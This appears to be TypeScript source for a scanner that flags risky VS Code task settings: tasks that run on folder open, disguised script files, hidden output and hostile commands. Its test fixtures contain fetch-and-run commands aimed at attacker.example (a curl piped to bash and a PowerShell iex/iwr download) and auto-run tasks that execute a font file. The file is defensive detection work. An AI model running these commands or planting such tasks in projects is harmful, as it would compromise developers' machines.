import type { ProgramCall, RowContext, RowMatch, SettingValue } from './setting-row.ts';
import { isQuietFolder, isRepoRelative, isConventionalToolPath, programName } from './values.ts';
import { envDocuments, environmentVariable, ENV_EXAMPLES } from './vscode-terminal.ts';
import { HOSTILE, live, textOf, textsOf } from './vscode-row.ts';
import type { VscodeRow } from './vscode-row.ts';

const TASKS_DOC = 'https://code.visualstudio.com/docs/debugtest/tasks#_run-behavior';
const DOWNLOAD = 'curl -s https://attacker.example/setup.sh | bash';
const SYSTEMS = ['windows', 'osx', 'linux'] as const;
const AUTOMATIC = new Set(['folderOpen', 'worktreeCreated']);

function startsItself(task: SettingValue): boolean {
  return AUTOMATIC.has(textOf(task.get('runOptions')?.get('runOn')));
}

/** The task of a node inside of it: `tasks[]` is the only array of tasks. */
function taskOf(value: SettingValue): SettingValue | null {
  let node: SettingValue | null = value;
  for (let depth = 0; node && depth < 10; depth += 1, node = node.parent) {
    if (node.kind === 'object' && node.parent?.kind === 'array' && node.parent.key === 'tasks') return node;
  }
  return null;
}

const MAX_DEPENDENCIES = 10;

const labels = new WeakMap<readonly SettingValue[], ReadonlyMap<string, SettingValue>>();

/** The tasks of one list by their names. */
function byLabel(tasks: readonly SettingValue[]): ReadonlyMap<string, SettingValue> {
  const known = labels.get(tasks);
  if (known) return known;
  const index = new Map(tasks.map((task): [string, SettingValue] => [textOf(task.get('label') ?? task.get('taskName')), task]));
  labels.set(tasks, index);
  return index;
}

const closures = new WeakMap<SettingValue, readonly SettingValue[]>();

/** A task and those that it depends on, by label; at most {@link MAX_DEPENDENCIES} of them. */
function withDependencies(task: SettingValue): readonly SettingValue[] {
  const known = closures.get(task);
  if (known) return known;
  const index = byLabel(task.parent?.members ?? []);
  const found = new Set([task]);
  for (const current of found) {
    for (const label of textsOf(current.get('dependsOn')).slice(0, MAX_DEPENDENCIES)) {
      const named = index.get(label);
      if (named && found.size <= MAX_DEPENDENCIES) found.add(named);
    }
  }
  const all = [...found];
  closures.set(task, all);
  return all;
}

function programsOf(task: SettingValue, context: RowContext): readonly ProgramCall[] {
  return withDependencies(task).flatMap((part) => context.programs(part));
}

const INTERPRETERS = /^(?:node|bun|deno|tsx|ts-node|python[\d.]{0,5}|py|ruby|perl|php|sh|bash|zsh|dash|pwsh|powershell|cmd|wscript|cscript|mshta|source|\.)$/;
const DATA_FILE = /\.(?:woff2?|ttf|otf|eot|png|jpe?g|gif|ico|svg|webp|bmp|mp[34]|pdf|dict|txt|md|css|cancel|dat|bin|map|lock|log)$/i;

/** A file that nobody expects to be run: below a folder of settings or assets, or no script by its name. */
function disguisedFile(task: SettingValue, context: RowContext): string | null {
  for (const { name, word, args } of programsOf(task, context)) {
    if (isRepoRelative(word) && isQuietFolder(word)) return word;
    if (name === null || !INTERPRETERS.test(programName(name))) continue;
    const file = args.find((argument) => !/^[-/]\w{0,20}$/.test(argument) && /[\w.]/.test(argument) && !argument.startsWith('-'));
    if (file !== undefined && file.length < 400 && !/\s/.test(file.trim()) && (isQuietFolder(file) || DATA_FILE.test(file))) return file;
  }
  return null;
}

/** Names of tasks that the editor finds in manifests by itself. */
const DETECTED = /^(?:npm|tsc|gulp|grunt|jake|typescript): /;

/** Watchers and builds, alone or through what they depend on: what a team starts by itself on purpose. */
function isWatcher(task: SettingValue, context: RowContext): boolean {
  const parts = withDependencies(task);
  const working = parts.filter((part) => ['command', 'script', 'windows', 'linux', 'osx'].some((name) => part.get(name) !== undefined) || isEditorTask(part));
  const detected = parts.some((part) => textsOf(part.get('dependsOn')).some((label) => DETECTED.test(label)));
  return (working.length > 0 || detected) && working.every((part) => isWatchTask(part, context));
}

function isEditorTask(part: SettingValue): boolean {
  return /^(?:typescript|gulp|grunt|jake)$/.test(textOf(part.get('type')));
}

function isWatchTask(part: SettingValue, context: RowContext): boolean {
  if (isEditorTask(part)) return true;
  const script = textOf(part.get('script'));
  if (textOf(part.get('type')) === 'npm') return /^(?:install|ci)$|(?:^|[:_-])(?:watch|dev|build|compile|start|serve|lint|test|typecheck|types|codegen|generate|docs|storybook)(?:$|[:_-])/i.test(script);
  const programs = context.programs(part);
  return programs.length > 0 && programs.every((program) => isWatchCommand(program));
}

function isWatchCommand({ name, args }: ProgramCall): boolean {
  const words = args.join(' ').slice(0, 500);
  if (name === 'tsc' || name === 'nodemon' || name === 'vite' || name === 'webpack' || name === 'gulp') return true;
  if (name === 'npm' || name === 'pnpm' || name === 'yarn' || name === 'bun') return /^(?:run |run-script )?(?:watch|dev|build|compile|start|test|lint|install|ci|i)\b|^$/.test(words);
  if (name === 'dotnet' || name === 'cargo' || name === 'go' || name === 'make' || name === 'docker' || name === 'docker-compose' || name === 'git') return /^(?:watch|build|test|run|check|compose|up|fetch|pull|status|submodule)\b/.test(words);
  return /(?:^|\s)(?:-w|--watch|watch)(?:\s|$)/.test(words);
}

function onRunOn(test: (task: SettingValue, context: RowContext) => boolean | RowMatch) {
  return (value: SettingValue, context: RowContext): boolean | RowMatch => {
    const task = AUTOMATIC.has(textOf(value)) ? taskOf(value) : null;
    return task !== null && test(task, context);
  };
}

const isHostile = (task: SettingValue, context: RowContext): boolean => withDependencies(task).some((part) => context.commands(part).hostile);

/** Ways of a task to stay unseen; `silent` output of a watcher is usual. */
function stealth(task: SettingValue): readonly string[] {
  const presentation = task.get('presentation');
  const reveal = textOf(presentation?.get('reveal'));
  return [
    ...(reveal === 'never' || reveal === 'silent' ? [`reveal: ${reveal}`] : []),
    ...(task.get('hide')?.value === true ? ['hide: true'] : []),
    ...(presentation?.get('echo')?.value === false ? ['echo: false'] : []),
    ...(presentation?.get('close')?.value === true ? ['close: true'] : []),
  ];
}

function hidesItself(value: SettingValue, context: RowContext): boolean | RowMatch {
  const task = taskOf(value);
  if (!task || !startsItself(task)) return false;
  const ways = stealth(task);
  const loud = ways.some((way) => way === 'reveal: never' || way === 'hide: true');
  const matters = isWatcher(task, context) ? loud && ways.length >= 2 : loud || ways.length >= 2 || ways[0] === 'reveal: silent';
  // Told once, at the first of them.
  const isFirst = typeof value.key === 'string' && ways[0]?.startsWith(`${value.key.split('.').at(-1) ?? ''}:`) === true;
  return isFirst && { preset: matters ? 'recommended' : 'strict', data: { what: ways.join(', ') } };
}

const task = (rest: object): unknown => ({ document: { version: '2.0.0', tasks: [{ label: 'prepare', type: 'shell', ...rest }] } });
const auto = { runOptions: { runOn: 'folderOpen' } };
const RUN_ON = ['tasks[].runOptions.runOn', '{windows,osx,linux}.tasks[].runOptions.runOn'];
const BUILT_IN = /^(?:npm: (?:install|ci|build|test|start)|eslint|tsc: (?:build|watch)|gulp|grunt|jake)(?:\b|$)/i;

/** `tasks.json`, or `tasks` of a workspace (A7). */
export const VSCODE_TASKS: readonly VscodeRow[] = [
  {
    id: 'A7-1',
    key: RUN_ON,
    when: onRunOn(isHostile),
    report: 'autostart',
    preset: 'recommended',
    cwe: [506, 829],
    source: TASKS_DOC,
    data: { what: HOSTILE },
    bad: [task({ ...auto, command: DOWNLOAD }), { document: { tasks: [{ label: 'a', command: DOWNLOAD }, { label: 'b', dependsOn: ['a'], ...auto }] } }, task({ runOptions: { runOn: 'worktreeCreated' }, command: 'echo', windows: { command: 'powershell -c "iex (iwr https://attacker.example/x)"' } })],
    good: [task({ command: DOWNLOAD }), task({ ...auto, command: 'npm run watch' }), task({ ...auto, command: 'curl -f http://localhost:3000/health' })],
  },
  {
    id: 'A7-3',
    key: RUN_ON,
    when: onRunOn((found, context) => {
      const file = isHostile(found, context) ? null : disguisedFile(found, context);
      return file !== null && { data: { file } };
    }),
    report: 'autostartFile',
    preset: 'recommended',
    cwe: [506],
    source: 'Contagious Interview campaigns of 2025',
    bad: [task({ ...auto, command: 'node .vscode/spell.js' }), task({ ...auto, command: 'node', args: ['./public/fonts/fa-brands.woff2'] }), task({ ...auto, command: './.claude/setup.sh' })],
    good: [task({ ...auto, command: 'node scripts/watch.js --watch' }), task({ command: 'node .vscode/spell.js' })],
  },
  {
    id: 'A7-4',
    key: RUN_ON,
    when: onRunOn((found, context) => !isHostile(found, context) && disguisedFile(found, context) === null && { preset: isWatcher(found, context) ? 'strict' : 'recommended' }),
    report: 'autostartTask',
    preset: 'recommended',
    cwe: [829],
    source: TASKS_DOC,
    bad: [task({ ...auto, command: 'python3 scripts/setup.py' }), task({ ...auto, type: 'npm', script: 'watch' })],
    good: [task({ type: 'npm', script: 'watch' }), task({ runOptions: { runOn: 'default' }, command: 'x' })],
  },
  {
    id: 'A7-2',
    key: ['tasks[].presentation.{reveal,echo,close}', 'tasks[].hide'],
    when: hidesItself,
    report: 'stealth',
    preset: 'recommended',
    cwe: [506],
    source: TASKS_DOC,
    bad: [task({ ...auto, command: 'node x.js', presentation: { reveal: 'never' } }), task({ ...auto, command: 'node x.js', hide: true, presentation: { echo: false, close: true } })],
    good: [task({ command: 'node x.js', presentation: { reveal: 'never' } }), task({ ...auto, command: 'node x.js', presentation: { reveal: 'always' } }), task({ type: 'npm', script: 'build', presentation: { reveal: 'silent' } })],
  },
  {
    id: 'A7-5',
    key: ['tasks[].command', 'tasks[].{windows,osx,linux}.command', 'command', '{windows,osx,linux}.command'],
    when: (value, context) => {
      const found = taskOf(value);
      return !(found && startsItself(found)) && context.commands(commandScope(value)).hostile;
    },
    report: 'taskCommand',
    preset: 'recommended',
    cwe: [78],
    source: TASKS_DOC,
    data: { what: HOSTILE },
    bad: [task({ command: DOWNLOAD }), task({ command: 'bash', args: ['-c', DOWNLOAD] })],
    good: [task({ command: 'npm test' }), task({ command: 'curl -f http://localhost:3000/health' }), task({ command: 'curl -o data.json https://example.com/data.json' })],
  },
  {
    id: 'A7-6',
    key: ['tasks[].options.shell.executable', 'options.shell.executable', ...SYSTEMS.flatMap((system) => [`tasks[].${system}.options.shell.executable`, `${system}.options.shell.executable`])],
    when: (value) => isRepoRelative(textOf(value)) && (isQuietFolder(textOf(value)) || !isConventionalToolPath(textOf(value))),
    report: 'terminalProgram',
    preset: 'recommended',
    cwe: [426],
    source: TASKS_DOC,
    bad: ['./.vscode/sh', '${workspaceFolder}/shell'],
    good: ['bash.exe', '/bin/bash', 'C:\\Program Files\\Git\\bin\\bash.exe'],
  },
  {
    id: 'A7-6',
    key: ['tasks[].options.env.*', 'options.env.*', ...SYSTEMS.flatMap((system) => [`tasks[].${system}.options.env.*`, `${system}.options.env.*`])],
    when: environmentVariable,
    report: 'variable',
    preset: 'recommended',
    cwe: [426],
    source: TASKS_DOC,
    bad: envDocuments(ENV_EXAMPLES.bad, (env) => ({ tasks: [{ label: 'x', command: 'npm test', options: { env } }] })),
    good: envDocuments(ENV_EXAMPLES.good, (env) => ({ tasks: [{ label: 'x', command: 'npm test', options: { env } }] })),
  },
  {
    id: 'A7-7',
    key: 'inputs[].args',
    when: (value, context) => {
      const command = textOf(value.parent?.get('command'));
      if (textOf(value.parent?.get('type')) !== 'command') return false;
      if (context.commands(value).hostile) return { preset: 'recommended', data: { what: HOSTILE } };
      return /^(?:shellCommand\.execute|extension\.shellCommand|workbench\.action\.terminal\.sendSequence|runInTerminal\.)/.test(command) && { preset: 'strict', data: { what: 'a command when its variable is resolved' } };
    },
    report: 'taskCommand',
    preset: 'recommended',
    cwe: [78],
    source: 'https://code.visualstudio.com/docs/reference/variables-reference#_input-variables',
    bad: [{ document: { inputs: [{ id: 'x', type: 'command', command: 'shellCommand.execute', args: { command: DOWNLOAD } }] } }, { document: { inputs: [{ id: 'x', type: 'command', command: 'shellCommand.execute', args: { command: 'ls' } }] } }],
    good: [{ document: { inputs: [{ id: 'x', type: 'pickString', options: ['a'] }, { id: 'y', type: 'command', command: 'extension.commandvariable.file.pickFile', args: { fileExt: '.ts' } }] } }],
  },
  {
    id: 'A7-8',
    key: 'tasks[].label',
    when: (value, context) => BUILT_IN.test(textOf(value)) && value.parent !== null && textOf(value.parent.get('type')) !== 'npm' && context.commands(value.parent).network,
    report: 'masquerade',
    preset: 'strict',
    cwe: [451],
    source: TASKS_DOC,
    data: live(),
    bad: [{ document: { tasks: [{ label: 'npm: install', type: 'shell', command: 'curl https://example.com/x -o x' }] } }],
    good: [{ document: { tasks: [{ label: 'npm: install', type: 'npm', script: 'install' }, { label: 'download', command: 'curl https://example.com/x -o x' }] } }],
  },
];

/** The object whose `command` and `args` belong together. */
function commandScope(command: SettingValue): SettingValue {
  const { parent } = command;
  return parent?.get('args') && parent.parent ? parent : command;
}
